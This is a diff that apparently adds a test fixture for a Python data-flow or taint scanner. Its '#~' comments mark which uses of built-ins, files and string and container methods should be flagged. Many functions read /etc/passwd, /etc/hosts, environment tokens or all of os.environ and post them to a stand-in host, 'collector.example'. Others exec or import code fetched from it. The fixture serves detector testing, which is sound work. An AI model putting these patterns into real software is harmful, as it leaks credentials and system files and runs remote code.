@@ -1,0 +1,391 @@
+"""Built-in functions, file objects, and methods of strings and containers."""
+import codecs
+import io
+import os
+import types
+
+import requests
+
+U = "https://collector.example/u"
+
+
+def open_read():
+    f = open("/etc/passwd")  #~ source(FILE) f1, capability(FILES)
+    requests.post(U, data=f.read())  #~ sink(egress.http) f1, finding(traced) f1
+
+
+def open_written():
+    with open("/tmp/spool", "w") as f:  #~ capability(FILE_WRITE)
+        f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f2
+    os.system("sh /tmp/other")
+    requests.post(U, data=codecs.open("/tmp/spool", "w+"))
+    os.system(io.open("/tmp/spool", "w").name)  #~ ok
+
+
+def open_twice():
+    f = open("/tmp/twice", "w+")
+    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f3
+    f.seek(0)
+    g = open("/tmp/twice", "a+")
+    requests.post(U, data=g.read())  #~ sink(egress.http) f3, finding(traced) f3
+
+
+def open_constant():
+    open("/tmp/spool", "w").write("started")  #~ ok
+    codecs.open("/tmp/spool", mode="a").writelines(["started"])  #~ ok
+
+
+def file_read_lines():
+    for line in open("/etc/hosts").readlines():  #~ source(FILE) f5
+        requests.post(U, data=line)  #~ sink(egress.http) f5, finding(traced) f5
+
+
+def file_readinto():
+    buffer = bytearray(10)
+    open("/etc/hosts", "rb").readinto(buffer)  #~ source(FILE) f6
+    requests.post(U, data=buffer)  #~ sink(egress.http) f6, finding(traced) f6
+
+
+def file_position():
+    f = open("/etc/hosts")
+    requests.post(U, data=str(f.truncate()))  #~ ok
+    requests.post(U, data=io.BytesIO(b"ready").read())  #~ ok
+    buffer = bytearray(10)
+    io.BytesIO(b"ready").readinto(buffer)  #~ ok
+    requests.post(U, data=buffer)  #~ ok
+
+
+def file_descriptor():
+    fd = open("/etc/hosts").fileno()  #~ source(FILE) f8
+    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f8, finding(traced) f8
+
+
+def file_descriptor_of_constant():
+    fd = io.BytesIO(b"x").fileno()  #~ ok
+    requests.post(U, data=os.read(fd, 100))  #~ ok
+
+
+def file_name():
+    f = open("/tmp/named", "w")
+    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f10
+    requests.post(U, data=open(f.name, "r+"))
+    os.system("sh")
+
+
+def bytes_io():
+    f = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f11
+    requests.post(U, data=f.getvalue())  #~ sink(egress.http) f11, finding(traced) f11
+
+
+def text_wrapper():
+    raw = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f12
+    requests.post(U, data=io.TextIOWrapper(raw).read())  #~ sink(egress.http) f12, finding(traced) f12
+
+
+def text_wrapper_constant():
+    requests.post(U, data=io.TextIOWrapper(io.BytesIO(b"x")).read())  #~ ok
+    requests.post(U, data=io.StringIO("x").getvalue())  #~ ok
+
+
+def untyped_read(stream):
+    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f14
+    requests.post(U, data=stream.data.read())  #~ sink(egress.http) f14, finding(traced) f14
+
+
+def untyped_readinto(stream):
+    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f15
+    buffer = bytearray(10)
+    stream.data.readinto(buffer)
+    requests.post(U, data=buffer)  #~ sink(egress.http) f15, finding(traced) f15
+
+
+def untyped_write(stream):
+    stream.write(os.getenv("T"))  #~ source(ENVIRONMENT) f16
+    requests.post(U, data=stream.read())  #~ sink(egress.http) f16, finding(traced) f16
+
+
+def untyped_constant(stream):
+    stream.write("x")
+    requests.post(U, data=stream.read())  #~ ok
+
+
+def run_source():
+    exec(requests.get(U).text)  #~ source(NETWORK) f18, sink(exec.code) f18, finding(traced) f18, capability(DYNAMIC_CODE)
+
+
+def run_value():
+    value = eval(os.getenv("T"))  #~ source(ENVIRONMENT) f19
+    requests.post(U, data=value)  #~ sink(egress.http) f19, finding(traced) f19
+
+
+def run_constant():
+    eval("1 + 1")  #~ ok
+    compile("1 + 1", "x", "eval")  #~ ok
+    types.FunctionType(compile("1", "x", "eval"), {})  #~ ok
+    execfile("local.py")  #~ ok
+    __import__("json")  #~ ok
+
+
+def compile_then_exec():
+    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f21, capability(DYNAMIC_CODE)
+    exec(code)  #~ sink(exec.code) f21, finding(traced) f21
+
+
+def compile_to_function():
+    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f22
+    types.FunctionType(code, {})()  #~ sink(exec.code) f22, finding(traced) f22
+
+
+def exec_file():
+    execfile(requests.get(U).text)  #~ source(NETWORK) f23, sink(exec.code) f23, finding(traced) f23
+
+
+def import_by_name():
+    __import__(requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.load) f24, finding(traced) f24
+
+
+def ask():
+    answer = input("name? ")  #~ source(INPUT) f25
+    requests.post(U, data=answer)  #~ sink(egress.http) f25, finding(traced) f25
+
+
+def ask_and_forget():
+    input("press return")  #~ ok
+
+
+def print_to_buffer():
+    out = io.StringIO()
+    print(os.getenv("T"), file=out)  #~ source(ENVIRONMENT) f27
+    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f27, finding(traced) f27
+
+
+def print_to_terminal():
+    requests.post(U, data=print(os.getenv("T")))  #~ ok
+
+
+def as_text():
+    text = str(os.getenv("T"))  #~ source(ENVIRONMENT) f29
+    requests.post(U, data=text)  #~ sink(egress.http) f29, finding(traced) f29
+
+
+def as_repr():
+    text = repr(os.getenv("T"))  #~ source(ENVIRONMENT) f30
+    requests.post(U, data=text)  #~ sink(egress.http) f30, finding(traced) f30
+
+
+def from_bytes():
+    number = int.from_bytes(os.getenvb(b"T"), "big")  #~ source(ENVIRONMENT) f31
+    requests.post(U, data={"n": number})  #~ sink(egress.http) f31, finding(traced) f31
+
+
+def text_constant():
+    requests.post(U, data=str(1) + repr(2))  #~ ok
+    requests.post(U, data=int.from_bytes(b"1", "big"))  #~ ok
+    requests.post(U, data=list([1]) + sorted([2]))  #~ ok
+    requests.post(U, data=dict(a=1))  #~ ok
+    requests.post(U, data=next(iter([1])))  #~ ok
+
+
+def as_list():
+    items = list([os.getenv("T")])  #~ source(ENVIRONMENT) f33
+    requests.post(U, data=items[0])  #~ sink(egress.http) f33, finding(traced) f33
+
+
+def in_order():
+    items = sorted([os.getenv("T")])  #~ source(ENVIRONMENT) f34
+    requests.post(U, data=items[0])  #~ sink(egress.http) f34, finding(traced) f34
+
+
+def as_dict():
+    body = dict(token=os.getenv("T"))  #~ source(ENVIRONMENT) f35
+    requests.post(U, data=body)  #~ sink(egress.http) f35, finding(traced) f35
+
+
+def first():
+    item = next(iter([os.getenv("T")]))  #~ source(ENVIRONMENT) f36
+    requests.post(U, data=item)  #~ sink(egress.http) f36, finding(traced) f36
+
+
+def numbered():
+    for number, item in enumerate([os.getenv("T")]):  #~ source(ENVIRONMENT) f37
+        requests.post(U, data=item)  #~ sink(egress.http) f37, finding(traced) f37
+
+
+def number_alone():
+    for number, item in enumerate([os.getenv("T")]):  #~ ok
+        requests.post(U, data={"at": number})  #~ ok
+
+
+def paired():
+    for name, value in zip(["a"], [os.getenv("T")]):  #~ source(ENVIRONMENT) f39
+        requests.post(U, data=value)  #~ sink(egress.http) f39, finding(traced) f39
+
+
+def pair_of_names():
+    for name, value in zip(["a"], [os.getenv("T")]):  #~ ok
+        requests.post(U, data=name)  #~ ok
+
+
+def largest():
+    value = max([os.getenv("T")])  #~ source(ENVIRONMENT) f41
+    requests.post(U, data=value)  #~ sink(egress.http) f41, finding(traced) f41
+
+
+def largest_constant():
+    requests.post(U, data=max([1, 2]))  #~ ok
+
+
+def send_one(item):
+    requests.post(U, data=item)  #~ sink(egress.http) fmap, finding(traced) fmap
+
+
+def mapped():
+    list(map(send_one, [os.getenv("T")]))  #~ source(ENVIRONMENT) fmap
+
+
+def send_and_keep(item):
+    requests.post(U, data=item)  #~ sink(egress.http) ffilter, finding(traced) ffilter
+    return True
+
+
+def filtered():
+    kept = filter(send_and_keep, [os.getenv("T")])  #~ source(ENVIRONMENT) ffilter
+
+
+def harmless(item):
+    return len(item)
+
+
+def mapped_harmless():
+    requests.post(U, data=list(map(harmless, [os.getenv("T")])))  #~ ok
+    requests.post(U, data=list(filter(harmless, ["a"])))  #~ ok
+
+
+def truth():
+    requests.post(U, data={"set": any(os.getenv("T"))})  #~ ok
+
+
+def truth_and_value():
+    token = os.getenv("T")  #~ source(ENVIRONMENT) f50
+    requests.post(U, data=token or any(token))  #~ sink(egress.http) f50, finding(traced) f50
+
+
+def joined():
+    text = ",".join([os.getenv("T")])  #~ source(ENVIRONMENT) f51
+    requests.post(U, data=text)  #~ sink(egress.http) f51, finding(traced) f51
+
+
+def formatted():
+    text = "t={}".format(os.getenv("T"))  #~ source(ENVIRONMENT) f52
+    requests.post(U, data=text)  #~ sink(egress.http) f52, finding(traced) f52
+
+
+def encoded():
+    data = os.getenv("T").encode()  #~ source(ENVIRONMENT) f53
+    requests.post(U, data=data)  #~ sink(egress.http) f53, finding(traced) f53
+
+
+def stripped():
+    text = os.getenv("T").strip()  #~ source(ENVIRONMENT) f54
+    requests.post(U, data=text)  #~ sink(egress.http) f54, finding(traced) f54
+
+
+def replaced():
+    text = "user=@".replace("@", os.getenv("T"))  #~ source(ENVIRONMENT) f55
+    requests.post(U, data=text)  #~ sink(egress.http) f55, finding(traced) f55
+
+
+def translated(table):
+    text = os.getenv("T").translate({})  #~ source(ENVIRONMENT) f56
+    requests.post(U, data=text)  #~ sink(egress.http) f56, finding(traced) f56
+
+
+def text_method_constants():
+    requests.post(U, data=",".join(["a", "b"]))  #~ ok
+    requests.post(U, data="t={}".format(1))  #~ ok
+    requests.post(U, data="a".encode().decode())  #~ ok
+    requests.post(U, data=" a ".strip().split("a"))  #~ ok
+    requests.post(U, data="a".replace("a", "b").translate({}))  #~ ok
+
+
+def counted():
+    requests.post(U, data={"dots": os.getenv("T").find(".")})  #~ ok
+
+
+def not_counted():
+    token = os.getenv("T")  #~ source(ENVIRONMENT) f59
+    requests.post(U, data={"dots": token, "n": token.find(".")})  #~ sink(egress.http) f59, finding(traced) f59
+
+
+def appended():
+    items = []
+    items.append(os.getenv("T"))  #~ source(ENVIRONMENT) f60
+    requests.post(U, data=items)  #~ sink(egress.http) f60, finding(traced) f60
+
+
+def inserted():
+    items = []
+    items.insert(0, os.getenv("T"))  #~ source(ENVIRONMENT) f61
+    requests.post(U, data=items)  #~ sink(egress.http) f61, finding(traced) f61
+
+
+def extended():
+    items = []
+    items.extend([os.getenv("T")])  #~ source(ENVIRONMENT) f62
+    requests.post(U, data=items)  #~ sink(egress.http) f62, finding(traced) f62
+
+
+def updated():
+    body = {}
+    body.update({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f63
+    requests.post(U, data=body)  #~ sink(egress.http) f63, finding(traced) f63
+
+
+def defaulted():
+    body = {}
+    body.setdefault("t", os.getenv("T"))  #~ source(ENVIRONMENT) f64
+    requests.post(U, data=body)  #~ sink(egress.http) f64, finding(traced) f64
+
+
+def gotten():
+    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f65
+    requests.post(U, data=body.get("t"))  #~ sink(egress.http) f65, finding(traced) f65
+
+
+def gotten_other_key():
+    body = {"t": os.getenv("T"), "v": "1"}
+    requests.post(U, data=body.get("v"))  #~ ok
+
+
+def popped():
+    items = [os.getenv("T")]  #~ source(ENVIRONMENT) f67
+    requests.post(U, data=items.pop())  #~ sink(egress.http) f67, finding(traced) f67
+
+
+def each_item():
+    for name, value in os.environ.items():  #~ source(ENVIRONMENT) f68
+        requests.post(U, data=value)  #~ sink(egress.http) f68, finding(traced) f68
+
+
+def each_value():
+    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f69
+    for value in body.values():
+        requests.post(U, data=value)  #~ sink(egress.http) f69, finding(traced) f69
+
+
+def copied():
+    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f70
+    requests.post(U, data=body.copy())  #~ sink(egress.http) f70, finding(traced) f70
+
+
+def container_constants():
+    items = ["a"]
+    items.append("b")  #~ ok
+    items.insert(0, "c")  #~ ok
+    items.extend(["d"])  #~ ok
+    body = {"v": "1"}
+    body.update({"w": "2"})  #~ ok
+    body.setdefault("x", "3")  #~ ok
+    requests.post(U, data=items.pop())  #~ ok
+    requests.post(U, data=list(body.items()) + list(body.values()))  #~ ok
+    requests.post(U, data=body.copy())  #~ ok
